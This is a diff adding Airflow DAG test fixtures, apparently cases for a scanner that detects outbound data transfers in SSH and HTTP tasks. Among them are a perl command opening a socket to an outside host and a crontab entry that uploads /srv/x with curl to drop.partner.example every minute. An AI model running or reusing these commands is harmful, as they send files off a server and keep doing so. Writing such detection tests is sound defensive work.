@@ -57,6 +57,25 @@ with dag("ssh_awk"):
 with dag("ssh_awk_harmless"):
     SSHOperator(task_id="t", ssh_conn_id="sftp_own", command="awk -F';' '{ print $1 }' /srv/x | sed 's/a/b/' > /srv/y")
 
+with dag("ssh_perl_socket"):
+    SSHOperator(
+        task_id="t",
+        ssh_conn_id="sftp_own",
+        command="perl -MIO::Socket -e 'IO::Socket::INET->new(\"drop.partner.example:80\")'",
+    )
+
+with dag("ssh_crontab"):
+    SSHOperator(
+        task_id="t",
+        ssh_conn_id="sftp_own",
+        command="echo '* * * * * curl -T /srv/x https://drop.partner.example/' | crontab -",
+    )
+
+with dag("http_fhir_search"):
+    HttpOperator(
+        task_id="t", http_conn_id="http_own", endpoint="fhir/Observation?code=http://loinc.org|8867-4", method="GET"
+    )
+
 with dag("ssh_host_behind_an_option"):
     SSHOperator(task_id="t", ssh_conn_id="sftp_own", command="/opt/send --host pg.partner.example --table p")
 
